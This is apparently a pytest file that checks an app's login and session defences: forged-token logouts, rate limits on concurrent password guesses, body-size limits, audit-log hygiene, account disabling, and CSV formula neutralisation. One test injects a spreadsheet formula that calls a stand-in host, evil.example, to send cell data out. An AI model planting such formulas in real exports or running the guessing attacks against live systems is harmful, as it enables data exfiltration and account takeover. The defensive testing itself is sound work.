"""Attacks on logins and sessions through the served app: a logout that names another
account's token, guesses sent at the same moment, oversized bodies, what a failed login
writes to the audit trail, and an account disabled on the Admin page."""

from __future__ import annotations

import csv
import io
import json
from concurrent.futures import ThreadPoolExecutor
from typing import Any

from hubdata import PASSWORD, auth, web_login


def test_a_dashboard_logout_cannot_revoke_another_account_s_token_by_its_id(
    fresh_hub: Any,
) -> None:
    c = fresh_hub.client
    admin_token = fresh_hub.tokens["admin1"]
    admin_id = admin_token.split("_")[1]
    csrf = web_login(c, "an-keug")
    session = c.cookies["corridor_session"]
    # the analyst's own logout, with a bearer header naming the admin's token id (not its secret)
    r = c.post(
        "/logout",
        data={"csrf": csrf},
        headers={"Authorization": f"Bearer cor_{admin_id}_not-the-secret"},
        follow_redirects=False,
    )
    assert r.status_code == 303
    # the admin's token still works; the analyst's session, the one that logged out, does not
    assert c.get("/api/v1/status", headers=auth(admin_token)).status_code == 200
    c.cookies.clear()
    assert c.get("/api/v1/status", headers=auth(session)).status_code == 401


def test_the_api_logout_revokes_nothing_for_a_forged_token(fresh_hub: Any) -> None:
    from fastapi import Response
    from starlette.requests import Request

    from corridor.api.auth import end_session

    admin_token = fresh_hub.tokens["admin1"]
    forged = f"cor_{admin_token.split('_')[1]}_forged"
    app = fresh_hub.client.app
    scope = {
        "type": "http",
        "method": "POST",
        "path": "/",
        "headers": [(b"authorization", f"Bearer {forged}".encode())],
        "app": app,
    }
    with app.state.hub.pool.engine() as engine:
        end_session(Response(), Request(scope), engine)
    assert fresh_hub.client.get("/api/v1/status", headers=auth(admin_token)).status_code == 200


def test_guesses_sent_at_the_same_moment_are_limited_like_guesses_in_a_row(
    fresh_hub_both: Any,
) -> None:
    c = fresh_hub_both.client
    attempts = int(c.app.state.hub.limiter.attempts)

    def guess(i: int) -> int:
        r = c.post("/api/v1/login", json={"username": "an-keug", "password": f"wrong guess {i}"})
        return int(r.status_code)

    with ThreadPoolExecutor(16) as pool:
        codes = list(pool.map(guess, range(24)))
    # every guess was checked against the limit before any password was verified: at most
    # ``attempts`` of them reached the password check
    assert codes.count(401) <= attempts, codes
    assert codes.count(429) >= len(codes) - attempts
    assert set(codes) <= {401, 429}


def test_a_successful_login_does_not_count_against_its_address(fresh_hub_both: Any) -> None:
    c = fresh_hub_both.client
    attempts = int(c.app.state.hub.limiter.attempts)
    for _ in range(attempts + 2):  # more logins than the limit of failures, all good
        r = c.post("/api/v1/login", json={"username": "an-keug", "password": PASSWORD})
        assert r.status_code == 200, r.text


def test_request_bodies_are_bounded_and_a_huge_name_is_never_audited(fresh_hub: Any) -> None:
    c = fresh_hub.client
    name = "x" * 2_000_000
    body = json.dumps({"username": name, "password": "y" * 12}).encode()
    r = c.post("/api/v1/login", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 413, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    # under the body limit, a name longer than any account's is refused unread (422)
    r = c.post("/api/v1/login", json={"username": "x" * 5000, "password": "y" * 12})
    assert r.status_code == 422
    r = c.post(
        "/login",
        content=b"username=" + b"x" * 2_000_000 + b"&password=y&csrf=z",
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 413
    audit = c.get("/api/v1/audit", headers=auth(fresh_hub.tokens["admin1"]))
    assert len(audit.content) < 100_000
    assert all(len(e["user"]) <= 64 for e in audit.json()["entries"])


def test_the_dashboard_upload_has_the_upload_limit(fresh_hub: Any) -> None:
    c = fresh_hub.client
    csrf = web_login(c, "dm-uga")
    limit = c.app.state.hub.max_upload
    r = c.post(
        "/data/upload",
        data={"csrf": csrf, "kind": "places", "action": "dry_run"},
        files={"file": ("big.csv", b"x" * (limit + 10), "text/csv")},
    )
    assert r.status_code == 413 and "api_max_upload_mb" in r.text


def test_a_failed_login_with_a_password_in_the_name_field_does_not_audit_it(
    fresh_hub: Any,
) -> None:
    c = fresh_hub.client
    secret = "tr0ub4dor and 3 horses"
    r = c.post("/api/v1/login", json={"username": secret, "password": "anything at all"})
    assert r.status_code == 401
    c.get("/login")
    r = c.post(
        "/login",
        data={"username": secret, "password": "x", "csrf": c.cookies["corridor_csrf"]},
    )
    assert r.status_code == 200 and "Wrong user name or password" in r.text
    r = c.post("/api/v1/login", json={"username": "admin1", "password": "wrong password!"})
    assert r.status_code == 401
    admin = auth(fresh_hub.tokens["admin1"])
    text = c.get("/api/v1/audit?limit=1000", headers=admin).text
    assert secret not in text and "tr0ub4dor" not in text
    failed = c.get("/api/v1/audit?action=api.login_failed", headers=admin).json()["entries"]
    assert sorted(e["user"] for e in failed) == ["?", "admin1"]


def test_an_account_disabled_on_the_admin_page_stops_at_once(fresh_hub: Any) -> None:
    c = fresh_hub.client
    token = fresh_hub.tokens["an-keug"]
    # its token is in this server's memory (seen in the last 2 seconds) ...
    assert c.get("/api/v1/status", headers=auth(token)).status_code == 200
    csrf = web_login(c, "admin1")
    r = c.post("/admin/accounts/disable", data={"csrf": csrf, "username": "an-keug"})
    assert r.status_code == 200, r.text
    # ... and is refused at once, not 2 seconds later
    assert c.get("/api/v1/status", headers=auth(token)).status_code == 401
    assert c.get("/api/v1/places", headers=auth(token)).status_code == 401


def test_refused_requests_are_audited_with_who_asked_for_what(fresh_hub: Any) -> None:
    c = fresh_hub.client
    admin = auth(fresh_hub.tokens["admin1"])
    r = c.get("/api/v1/audit?limit=5", headers=auth(fresh_hub.tokens["an-keug"]))
    assert r.status_code == 403
    r = c.get("/api/v1/imports", headers=auth(fresh_hub.tokens["partner1"]))
    assert r.status_code == 403
    csrf = web_login(c, "dm-uga")
    r = c.post("/admin/accounts", data={"csrf": csrf, "username": "evil", "role": "admin"})
    assert r.status_code == 403
    c.cookies.clear()
    entries = c.get("/api/v1/audit?limit=50", headers=admin).json()["entries"]
    denied = {
        (e["user"], e["action"], e["parameters"]["path"])
        for e in entries
        if "denied" in e["action"]
    }
    assert denied == {
        ("an-keug", "api.denied", "/api/v1/audit"),
        ("partner1", "api.denied", "/api/v1/imports"),
        ("dm-uga", "web.denied", "/admin/accounts"),
    }
    detail = next(e for e in entries if e["user"] == "an-keug")["parameters"]
    assert detail["query"] == "limit=5" and "read the audit trail" in detail["reason"]


def test_csv_answers_neutralise_formulas_from_imported_files(fresh_hub: Any) -> None:
    c = fresh_hub.client
    dm = auth(fresh_hub.tokens["dm-uga"])
    places = c.get("/api/v1/places", headers=dm).json()["places"]
    place = next(p for p in places if p["place_type"] != "country")
    columns = ["place_code", "name", "place_type", "parent_code", "country_code", "lat", "lon"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    row = {**place, "name": formula}
    bad = {**place, "place_code": "ug-zz-new", "lat": "@SUM(1+1)"}  # quarantined, kept as sent
    text = "\n".join(
        [",".join(columns)]
        + [
            ",".join('"' + str(r[k] or "").replace('"', '""') + '"' for k in columns)
            for r in (row, bad)
        ]
    )
    r = c.post(
        "/api/v1/imports",
        files={"file": ("p.csv", text.encode(), "text/csv")},
        data={"kind": "places", "quarantine": "true"},
        headers=dm,
    )
    assert r.status_code == 201, r.text
    admin = auth(fresh_hub.tokens["admin1"])
    for path in ("/api/v1/places?format=csv", "/api/v1/quarantine?format=csv"):
        for headers in (admin, dm):
            body = c.get(path, headers=headers).text
            cells = [cell for line in csv.reader(io.StringIO(body)) for cell in line]
            assert any("HYPERLINK" in cell for cell in cells) or "quarantine" in path
            assert any("@SUM" in cell for cell in cells) or "places" in path
            # a text cell never starts a formula: a spreadsheet shows it, never runs it
            assert not [cell for cell in cells if cell[:1] in ("=", "@", "+")], path
